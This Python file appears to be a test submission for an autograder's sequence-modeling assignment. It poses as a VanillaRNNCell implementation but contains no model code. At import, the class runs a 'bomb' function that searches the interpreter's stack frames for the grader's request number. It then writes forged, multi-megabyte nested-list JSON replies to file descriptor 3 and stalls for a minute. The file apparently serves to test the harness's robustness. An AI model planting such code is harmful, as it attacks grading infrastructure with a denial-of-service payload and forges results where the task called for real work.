"""Finds the number of the request in the frames, and answers at import with JSON that becomes a gigabyte."""

# assignment: a7_sequence_modeling
# file: cells.py
# form: replace
# expect: fails cells::vanilla_cell_learns_* cells::vanilla_cell_follows_*
# worker: stopped

import os
import struct
import sys
import time


def bomb():
    frame, number = sys._getframe(), 1
    while frame is not None:
        for found in frame.f_locals.values():
            if isinstance(found, dict) and type(found.get("number")) is int:
                number = found["number"]
        frame = frame.f_back
    head, tail = b'{"number":%d,"value":[' % number, b"[]]}"
    for size in (1_900_000, 4_000_000, 16_000_000):
        body = head + b"[[[]]]," * ((size - 40) // 7) + tail
        body = struct.pack("<II", len(body), 0) + body
        while body:
            body = body[os.write(3, body[: 1 << 16]) :]
    time.sleep(60)


class VanillaRNNCell:
    bomb()
